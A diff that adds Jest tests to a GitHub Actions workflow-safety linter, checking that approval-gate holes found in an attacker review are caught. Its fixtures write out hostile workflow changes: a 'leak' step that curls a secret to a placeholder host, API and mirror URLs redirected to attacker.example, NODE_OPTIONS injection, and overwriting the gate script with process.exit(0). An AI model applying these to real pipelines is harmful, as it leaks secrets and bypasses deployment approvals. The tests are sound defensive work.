@@ -31,6 +31,7 @@ import {
   checkRoleEnvironments,
   checkRotationIsolation,
   checkPlanEnvironmentsHoldNothingPowerful,
+  readsSecret,
 } from "./support/workflow-safety-rules";
 
 const ROOT = path.join(__dirname, "..");
@@ -262,7 +263,12 @@ describe("deploy.yml", () => {
       expect(viaPlan).toMatch(/apply-staging: plan-staging has if: !cancelled\(\)/);
     });
     it("the gate job in an environment, without actions: read, conditional, or continuing on error", () => {
-      expect(gateViolations((wf) => (job(wf, "gates").environment = "prod"))).toMatch(/gates: the gate job must not name an environment/);
+      expect(gateViolations((wf) => (job(wf, "gates").environment = "dev"))).toMatch(/gates: the gate job must not name an environment/);
+      // In a protected environment it is no gate at all but a protected job (attacker review F3: it used to be told
+      // "the gate job must not name an environment", hiding that nothing gates it).
+      const inProd = gateViolations((wf) => (job(wf, "gates").environment = "prod"));
+      expect(inProd).toMatch(/gates: runs in protected environment "prod" without \(transitively\) needing a gate job/);
+      expect(inProd).not.toMatch(/the gate job must not name an environment/);
       expect(gateViolations((wf) => (job(wf, "gates").permissions = { contents: "read" }))).toMatch(/gates: the gate job needs permissions actions: read/);
       expect(gateViolations((wf) => (job(wf, "gates").if = "github.event_name == 'push'"))).toMatch(/gates: the gate job must not be conditional/);
       expect(gateViolations((wf) => Object.assign(gateStep(wf), { "continue-on-error": true }))).toMatch(/the gate step must not be conditional or continue on error/);
@@ -749,6 +755,108 @@ describe("rotate-secrets.yml: approval gates before the rotation role and the Te
     expect(out).toMatch(/drift: runs in protected environment "prod" without/);
     expect(out).toMatch(/no job runs \.github\/scripts\/check-environment-gates\.js/);
     expect(violations((wf) => (job(wf, "drift").environment = "${{ inputs.env }}"), drift)).toMatch(/drift: environment "\$\{\{ inputs.env \}\}" is an expression this rule cannot read/);
+  });
+});
+
+describe("approval-gate rule: the holes the attacker review found (F3) are closed", () => {
+  const deploy = byName("deploy.yml").doc;
+  const gates = (mutate: (wf: Workflow) => void, base: Workflow = deploy): string => {
+    const wf = clone(base);
+    mutate(wf);
+    return checkApprovalGates(wf).join("\n");
+  };
+  const recheckIndex = (wf: Workflow, id: string): number => stepsOf(job(wf, id)).findIndex((s) => /check-environment-gates/.test(s.run ?? ""));
+  const gateStep = (wf: Workflow, id = "gates"): Step => stepsOf(job(wf, id))[recheckIndex(wf, id)];
+  const dropRecheck = (wf: Workflow, id: string) => stepsOf(job(wf, id)).splice(recheckIndex(wf, id), 1);
+
+  it("environment names are case-insensitive: Prod and { name: PROD } are prod", () => {
+    const titled = gates((wf) => {
+      job(wf, "apply-prod").environment = "Prod";
+      dropRecheck(wf, "apply-prod");
+    });
+    expect(titled).toMatch(/apply-prod: must check again that "prod" is gated/);
+    const upper = gates((wf) => {
+      wf.jobs["hotfix-prod"] = { ...clone(job(wf, "apply-prod")), needs: "synth", environment: { name: "PROD", url: "https://example.invalid" } };
+    });
+    expect(upper).toMatch(/hotfix-prod: runs in protected environment "prod" without \(transitively\) needing a gate job/);
+    // A gate step naming PROD checks prod (GitHub answers either spelling): still passes.
+    expect(gates((wf) => (gateStep(wf).env = { ...gateStep(wf).env, GATE_ENVIRONMENTS: "STAGING Prod" }))).toBe("");
+  });
+
+  it("a job calling a workflow of another repository or ref (secrets: inherit) is flagged; a local one is a checked file itself", () => {
+    const remote = gates((wf) => {
+      wf.jobs.deploy = { uses: "myorg/genesys-eventbridge-infra/.github/workflows/deploy.yml@0123456789abcdef0123456789abcdef01234567", needs: "gates", permissions: { contents: "read" } } as Job;
+      Object.assign(wf.jobs.deploy, { secrets: "inherit" });
+    });
+    expect(remote).toMatch(/deploy: calls the workflow "myorg\/genesys-eventbridge-infra\/\.github\/workflows\/deploy\.yml@0123\w+", which this rule cannot check/);
+    expect(gates((wf) => (wf.jobs.deploy = { uses: "./.github/workflows/deploy.yml@main", permissions: {} } as Job))).toMatch(/deploy: calls the workflow/);
+    expect(gates((wf) => (wf.jobs.lint = { uses: "./.github/workflows/ci.yml", permissions: {} } as Job))).toBe("");
+    // Without any gate job, a remote call alone is enough to demand one.
+    const drift = byName("drift.yml").doc;
+    expect(gates((wf) => (wf.jobs.x = { uses: "o/r/.github/workflows/x.yml@v1" } as Job), drift)).toMatch(/no job runs \.github\/scripts\/check-environment-gates\.js/);
+  });
+
+  it("status functions in any case, and success() || true, on the way from the gate", () => {
+    expect(gates((wf) => (job(wf, "apply-prod").if = "${{ ALWAYS() }}"))).toMatch(/apply-prod: apply-prod has if: \$\{\{ ALWAYS\(\) \}\}, which would run it after the gate failed/);
+    expect(gates((wf) => (job(wf, "plan-prod").if = "Failure() || true"))).toMatch(/apply-prod: plan-prod has if: Failure\(\) \|\| true/);
+    expect(gates((wf) => (job(wf, "apply-prod").if = "success() || true"))).toMatch(/apply-prod: apply-prod has if: success\(\) \|\| true/);
+  });
+
+  it("secret reads in every spelling count as credentials: before the re-check, in job env, in services or container credentials", () => {
+    const before = (stepEnv: Record<string, unknown>) =>
+      gates((wf) => stepsOf(job(wf, "apply-prod")).splice(0, 0, { name: "leak", env: stepEnv, run: 'curl -d "$S" https://example.invalid' }));
+    for (const expr of ["${{ secrets['GENESYSCLOUD_OAUTHCLIENT_SECRET'] }}", "${{ SECRETS.GENESYSCLOUD_OAUTHCLIENT_SECRET }}", "${{ toJSON(secrets) }}", '${{ secrets["X"] }}']) {
+      expect([expr, before({ S: expr })]).toEqual([expr, expect.stringMatching(/apply-prod: must check again that "prod" is gated/)]);
+    }
+    expect(gates((wf) => (job(wf, "apply-prod").env = { ...job(wf, "apply-prod").env, ALL: "${{ toJSON(secrets) }}" }))).toMatch(/apply-prod: its job env reads a secret/);
+    expect(gates((wf) => (wf.env = { ...wf.env, S: "${{ secrets.GENESYSCLOUD_OAUTHCLIENT_SECRET }}" }))).toMatch(/the workflow env reads a secret/);
+    const creds = { image: `ghcr.io/a/b@sha256:${"0".repeat(64)}`, credentials: { username: "u", password: "${{ secrets.REGISTRY_PASSWORD }}" } };
+    expect(gates((wf) => Object.assign(job(wf, "apply-prod"), { services: { x: creds } }))).toMatch(/apply-prod: its services reads a secret/);
+    expect(gates((wf) => Object.assign(job(wf, "apply-prod"), { container: creds }))).toMatch(/apply-prod: its container reads a secret/);
+    // The gate's own read token and the job token are no credentials; a word "secrets" outside an expression neither.
+    expect(readsSecret({ GITHUB_TOKEN: "${{ secrets.ENVIRONMENTS_READ_TOKEN || github.token }}", N: "Rotate secrets" })).toBe(false);
+    expect(readsSecret({ T: "${{ secrets.ENVIRONMENTS_READ_TOKEN_2 }}" })).toBe(true);
+  });
+
+  it("a re-check in a protected job that holds no recognised credential is judged as that job, not as a gate job", () => {
+    const out = gates((wf) => {
+      wf.jobs.genesys = { needs: "synth", "runs-on": "ubuntu-24.04", environment: "prod", permissions: { contents: "read", actions: "read" }, steps: [{ env: { GITHUB_TOKEN: "${{ github.token }}", GATE_ENVIRONMENTS: "prod" }, run: "node .github/scripts/check-environment-gates.js" }] } as Job;
+    });
+    expect(out).toMatch(/genesys: runs in protected environment "prod" without \(transitively\) needing a gate job/);
+    expect(out).not.toMatch(/genesys: the gate job/);
+  });
+
+  it.each([
+    ["shell", (s: Step) => Object.assign(s, { shell: "true {0}" }), /gates: the gate step must not set shell/],
+    ["working-directory", (s: Step) => Object.assign(s, { "working-directory": "fake" }), /gates: the gate step must not set working-directory/],
+    ["NODE_OPTIONS", (s: Step) => (s.env = { ...s.env, NODE_OPTIONS: "--require ./pass.js" }), /gates: the gate step may set only GITHUB_TOKEN, GATE_MODE, GATE_ENVIRONMENTS, GATE_BRANCH_ONLY_ENVIRONMENTS in env, not NODE_OPTIONS/],
+    ["GITHUB_API_URL", (s: Step) => (s.env = { ...s.env, GITHUB_API_URL: "https://attacker.example" }), /not GITHUB_API_URL/],
+    ["GITHUB_REPOSITORY", (s: Step) => (s.env = { ...s.env, GITHUB_REPOSITORY: "attacker/public-copy" }), /not GITHUB_REPOSITORY/],
+    ["GATE_DEPLOY_BRANCHES", (s: Step) => (s.env = { ...s.env, GATE_DEPLOY_BRANCHES: "main feature" }), /not GATE_DEPLOY_BRANCHES/],
+    ["another token", (s: Step) => (s.env = { ...s.env, GITHUB_TOKEN: "${{ secrets.OTHER_TOKEN }}" }), /gates: the gate step must get GITHUB_TOKEN from github\.token/],
+  ])("the gate step neutered by %s (in the gate job and in a re-check)", (_what, mutate, expected) => {
+    expect(gates((wf) => mutate(gateStep(wf)))).toMatch(expected);
+    expect(gates((wf) => mutate(gateStep(wf, "apply-prod")))).toMatch(new RegExp(expected.source.replace("gates:", "apply-prod:")));
+  });
+
+  it("the gate script rewritten or replaced before it runs, or steered from the job or workflow", () => {
+    expect(gates((wf) => stepsOf(job(wf, "gates")).splice(recheckIndex(wf, "gates"), 0, { run: "echo 'process.exit(0)' > .github/scripts/check-environment-gates.js" }))).toMatch(
+      /gates: step 3 \(run\) runs before the gate script; only checkout of this commit/,
+    );
+    const checkoutOther = gates((wf) => (stepsOf(job(wf, "gates"))[0].with = { repository: "attacker/copy", ref: "main" }));
+    expect(checkoutOther).toMatch(/gates: step 1 \(Check out\) runs before the gate script/);
+    expect(gates((wf) => (stepsOf(job(wf, "apply-prod"))[1].with = { "node-version": "22", mirror: "https://attacker.example" }))).toMatch(/apply-prod: step 2 \(.*\) runs before the gate script/);
+    expect(gates((wf) => (job(wf, "apply-prod").env = { ...job(wf, "apply-prod").env, NODE_OPTIONS: "--require ./x.js" }))).toMatch(/apply-prod: runs the gate script, so its job env must not set NODE_OPTIONS/);
+    expect(gates((wf) => (wf.env = { ...wf.env, GITHUB_API_URL: "https://attacker.example", PATH: "/tmp" }))).toMatch(/gates: runs the gate script, so its workflow env must not set GITHUB_API_URL, PATH/);
+    expect(gates((wf) => Object.assign(wf, { defaults: { run: { shell: "true {0}" } } }))).toMatch(/gates: runs the gate script, so its workflow must set no defaults/);
+    expect(gates((wf) => Object.assign(job(wf, "gates"), { defaults: { run: { "working-directory": "fake" } } }))).toMatch(/gates: runs the gate script, so its job must set no defaults/);
+  });
+
+  it("a workflow that enters staging or prod runs on no pull_request_target or workflow_run", () => {
+    expect(gates((wf) => (wf.on = { ...wf.on, pull_request_target: { branches: ["main"] } }))).toMatch(/on\.pull_request_target: a workflow that enters staging or prod must not run on pull_request_target/);
+    expect(gates((wf) => (wf.on = { ...wf.on, workflow_run: { workflows: ["CI"], types: ["completed"] } }))).toMatch(/on\.workflow_run: /);
+    // drift.yml enters no protected environment: the trigger rule does not concern it.
+    expect(gates((wf) => (wf.on = { ...wf.on, workflow_run: { workflows: ["CI"] } }), byName("drift.yml").doc)).toBe("");
   });
 });
 
